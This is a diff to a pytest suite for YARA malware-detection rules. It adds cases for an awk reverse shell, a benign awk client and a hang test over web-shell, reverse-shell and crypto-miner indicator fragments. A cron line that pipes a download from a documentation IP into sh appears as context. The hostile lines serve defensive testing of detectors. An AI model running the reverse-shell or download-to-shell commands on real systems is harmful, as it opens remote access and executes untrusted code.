@@ -189,6 +189,14 @@ def test_jsp_and_asp(rules: yara.Rules, sample: str, ids: set[str]) -> None:
         pytest.param(
             "*/5 * * * * root curl -fsSL http://192.0.2.7/a.sh | sh", {"download-to-shell"}, id="cron-download"
         ),
+        pytest.param(
+            "awk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4242\";for(;;){s|&getline c;while((c|&ge§tline)>0)print $0|&s;close(c)}}'",
+            {"reverse-shell-script"},
+            id="awk",
+        ),
+        pytest.param(
+            '{ s = "/inet/tcp/0/host/80"; while ((s |& getline line) > 0) print line }', set(), id="awk-client"
+        ),
         pytest.param("curl -fsSL https://get.example.com | sh", set(), id="installer-in-a-readme"),
         pytest.param(
             "exec 3<>/dev/tcp/localhost/80\necho -e 'GET /' >&3\ncat <&3\n", set(), id="dev-tcp-as-http-client"
@@ -199,6 +207,40 @@ def test_jsp_and_asp(rules: yara.Rules, sample: str, ids: set[str]) -> None:
 )
 def test_reverse_shells(rules: yara.Rules, sample: str, ids: set[str]) -> None:
     assert found(rules, sample) == {f"malware/{name}" for name in ids}
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "ev§al(",
+        "$_PO§ST[",
+        "sys§tem(base64_decode(",
+        "@ @ (",
+        "ch§r(1).",
+        "$a[10].",
+        "\\x61",
+        "$O0O0O0 ",
+        "mkfifo a ",
+        "mkfifo sh -i ",
+        "exec 5<>/dev/tcp/a",
+        "/inet/tcp/0/a",
+        "while (a |& getline ",
+        "net.connect",
+        "TCPSo§cket.open(",
+        "fsock§open(a;",
+        "stratum+tcp://a",
+        "copy($_FI§LES[a][tmp_name],$_FI§LES[",
+        "https://a",
+        "0123 ",
+        "* ",
+        "    ",
+    ],
+)
+def test_repeated_beginnings_do_not_hang(rules: yara.Rules, unit: str) -> None:
+    """128 KiB of what a string of ours begins with: well under a second each; YARA raises after 30."""
+    text = unit.replace("§", "")
+    data = ("<?p" + "hp " + text * (131_072 // len(text))).encode()
+    rules.match(data=data, fast=True, timeout=30)
 
 
 WALLET = "4" + "8A" * 47
